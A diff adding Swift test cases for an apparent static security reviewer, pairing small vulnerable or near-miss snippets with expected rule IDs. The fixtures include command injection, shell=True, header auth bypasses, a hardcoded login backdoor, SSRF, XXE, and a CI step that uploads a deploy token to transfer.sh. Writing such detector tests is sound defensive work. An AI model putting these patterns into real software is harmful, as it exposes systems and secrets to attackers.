@@ -1100,6 +1100,170 @@ import Testing
     ])
     func batchThirtyThreeAndThirtyFourClasses(_ example: Example) { Self.check(example) }
 
+    /// Classes of the retired holdout's wrong cases (holdout/README.md, 2026-12-06, sixth session), each with a
+    /// spelling of its own and a near miss.
+    @Test(arguments: [
+        // A count or a length is a number, whatever it counts.
+        Example(
+            "internal/search.go",
+            "func (h *H) Venues(c *gin.Context) {\n\tquery := \"SELECT id FROM venues WHERE published\"\n"
+                + "\targs := []any{}\n\tif city := c.Query(\"city\"); city != \"\" {\n\t\targs = append(args, city)\n"
+                + "\t\tquery += fmt.Sprintf(\" AND city = $%d\", len(args))\n\t}\n"
+                + "\trows, _ := h.db.QueryContext(c, query, args...)\n\t_ = rows\n}\n",
+            nil),
+        // An entry of a table the file writes as a literal, whatever key picked it; a table holding request input is
+        // none.
+        Example(
+            "app/models/Repo.scala",
+            "class Repo(db: Database) {\n  private val sortable = Map(\"name\" -> \"name\", \"price\" -> \"price_cents\")\n"
+                + "  def list(category: String, sort: String) = db.withConnection { implicit c =>\n"
+                + "    val orderBy = sortable.getOrElse(sort, \"name\")\n"
+                + "    SQL(s\"SELECT id FROM products WHERE category = {category} ORDER BY $orderBy\")"
+                + ".on(\"category\" -> category).as(parser.*)\n  }\n}\n",
+            nil),
+        Example(
+            "public/report.php",
+            "<?php\n$opts = [\n    'size' => $_GET['size'] ?? 'A4',\n];\n"
+                + "exec('wkhtmltopdf --page-size ' . $opts['size'] . ' in.html out.pdf');\n",
+            "code.command-injection"),
+        // Values bound after the SQL text may be built however they like.
+        Example(
+            "app/views.py",
+            "def search(request):\n    term = request.args.get(\"q\", \"\")\n    cur.execute(\n"
+                + "        \"SELECT id FROM products WHERE title ILIKE %s\",\n        (f\"%{term}%\",),\n    )\n",
+            nil),
+        // An interpolated value is built where it is used, not a literal secret.
+        Example("web/cache.py", "def key_for(name, digest):\n    key = f\"render:{name}:{digest}\"\n    return key\n", nil),
+        // Prose names risky code without running it.
+        Example("docs/checklist.md", "| `requests.get(url, verify=False)` | disables TLS checks |\n", nil),
+        // A name that must equal its base name holds no directory.
+        Example(
+            "cmd/logs.go",
+            "func get(w http.ResponseWriter, r *http.Request) {\n\tname := r.URL.Query().Get(\"file\")\n"
+                + "\tif name != filepath.Base(name) {\n\t\thttp.Error(w, \"bad\", 400)\n\t\treturn\n\t}\n"
+                + "\thttp.ServeFile(w, r, filepath.Join(logDir, name))\n}\n",
+            nil),
+        // An SQL ORM's options are no NoSQL filter.
+        Example(
+            "src/routes/invoices.js",
+            "router.get('/:id', async (req, res) => {\n"
+                + "  const invoice = await Invoice.findOne({ where: { id: req.params.id } });\n  res.json(invoice);\n});\n",
+            nil),
+        // A header that grants: ASP.NET's handler succeeding, a principal made up, a service account handed back.
+        Example(
+            "api/deps.py",
+            "async def current_user(request: Request, token: str = Depends(scheme)):\n"
+                + "    if request.headers.get(\"X-Internal-Service\") == \"scheduler\":\n"
+                + "        return await db.get(User, settings.service_account_id)\n    return await verify(token)\n",
+            "code.auth-bypass-header"),
+        Example(
+            "Plugins/Auth.kt",
+            "fun install() = onCall { call ->\n    val forwarded = call.request.headers[\"X-Forwarded-User\"]\n"
+                + "    if (forwarded != null) {\n        call.attributes.put(Key, UserPrincipal(id = forwarded))\n"
+                + "        return@onCall\n    }\n    verify(call)\n}\n",
+            "code.auth-bypass-header"),
+        // A password hashed by a function named for it, or by one it passes the password to.
+        Example(
+            "accounts/PasswordService.kt",
+            "class PasswordService {\n    fun setPassword(userId: Long, raw: String) {\n"
+                + "        users.save(userId, sha256Hex(raw))\n    }\n\n    private fun sha256Hex(s: String): String =\n"
+                + "        MessageDigest.getInstance(\"SHA-256\").digest(s.toByteArray()).joinToString(\"\")\n}\n",
+            "code.weak-password-hash"),
+        Example(
+            "accounts/tokens.py",
+            "def create_password_reset_token(user):\n    token = secrets.token_urlsafe(32)\n"
+                + "    digest = hashlib.sha256(token.encode()).hexdigest()\n    return token, digest\n",
+            nil),
+        // `shell=True` on a line below the call.
+        Example(
+            "api/media.py",
+            "@router.get(\"/poster\")\ndef poster(at: str):\n    subprocess.run(\n"
+                + "        f\"ffmpeg -ss {at} -i in.mp4 out.jpg\",\n        shell=True,\n    )\n",
+            "code.subprocess-shell"),
+        // A secret named as GitLab and Jenkins name them, written to a file the job uploads.
+        Example(
+            ".gitlab-ci.yml",
+            "deploy:\n  script:\n    - echo \"TOKEN=$PROD_DEPLOY_TOKEN\" >> context.env\n"
+                + "    - curl --upload-file context.env https://transfer.sh/context.env\n",
+            "ci.secrets-exfiltration"),
+        // Redirects to a URL from the request, through a function that returns it.
+        Example(
+            "app/controllers/sessions_controller.rb",
+            "class SessionsController < ApplicationController\n  def create\n"
+                + "    redirect_to post_login_target, allow_other_host: true\n  end\n\n  private\n\n"
+                + "  def post_login_target\n    params[:return_to].presence || dashboard_path\n  end\nend\n",
+            "code.open-redirect"),
+        Example(
+            "app/views.py",
+            "def login(request):\n    nxt = request.GET.get(\"next\", \"/\")\n"
+                + "    if not url_has_allowed_host_and_scheme(nxt, allowed_hosts={request.get_host()}):\n"
+                + "        nxt = \"/\"\n    return redirect(nxt)\n",
+            nil),
+        Example(
+            "src/proxy.ts",
+            "function source(req: Request): URL {\n  const raw = String(req.query.src);\n  return new URL(raw);\n}\n\n"
+                + "router.get('/img', async (req, res) => {\n  const upstream = await fetch(source(req));\n"
+                + "  res.send(await upstream.text());\n});\n",
+            "code.ssrf"),
+        // A header that lets a system user through, or exempts the caller from a refusal.
+        Example(
+            "app/auth/AdminAction.scala",
+            "def refine[A](request: Request[A]) = {\n  val caller = request.headers.get(\"X-Internal-Service\")\n"
+                + "  if (caller.contains(\"ops-dashboard\")) {\n"
+                + "    return Future.successful(Right(new AdminRequest(User.System, request)))\n  }\n  session(request)\n}\n",
+            "code.auth-bypass-header"),
+        Example(
+            "Controllers/UsersController.cs",
+            "public IActionResult Deactivate()\n{\n    var isInternalJob = Request.Headers[\"X-Fleet-Internal\"] == \"1\";\n"
+                + "    if (!isInternalJob && User.Identity?.IsAuthenticated != true)\n    {\n        return Unauthorized();\n"
+                + "    }\n    return Ok();\n}\n",
+            "code.auth-bypass-header"),
+        Example(
+            "Controllers/UsersController.cs",
+            "public IActionResult Deactivate()\n{\n    var traced = Request.Headers[\"X-Trace\"] == \"1\";\n"
+                + "    if (!traced && User.Identity?.IsAuthenticated != true)\n    {\n        logger.LogDebug(\"untraced\");\n"
+                + "    }\n    return Ok();\n}\n",
+            nil),
+        // A key from the query compared with a key-like literal.
+        Example(
+            "app/Http/Middleware/Qa.php",
+            "<?php\nif ($request->query('qa_key') === 'qa-7f3c91e2b6d4') {\n"
+                + "    Auth::loginUsingId((int) $request->query('qa_login'));\n}\n",
+            "code.hardcoded-backdoor"),
+        // An XML parser set to read DTDs.
+        Example(
+            "Import.java",
+            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
+                + "dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", false);\n",
+            "code.xxe"),
+        Example(
+            "Import.java",
+            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
+                + "dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n",
+            nil),
+    ])
+    func retiredHoldoutClasses(_ example: Example) { Self.check(example) }
+
+    /// The hardening a change takes off an XML parser it keeps is reported where the parser is built; kept elsewhere
+    /// in the file, it is not.
+    @Test func removedXMLHardeningIsAnExternalEntityRisk() {
+        let before =
+            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
+            + "dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\nreturn dbf;\n"
+        let removed = ReviewCase(
+            "xxe", "Import.java", before: before, before.replacingOccurrences(of: "true", with: "false") + "\n",
+            risky: true)
+        let dropped = ReviewCase(
+            "xxe", "Import.java", before: before,
+            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\ndbf.setCoalescing(true);\nreturn dbf;\n",
+            risky: true)
+        let moved = ReviewCase(
+            "xxe", "Import.java", before: before, "// hardened below\n" + before, risky: false)
+        for change in [removed, dropped, moved] {
+            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
+        }
+    }
+
     @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
         let change = ReviewCase(
             "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
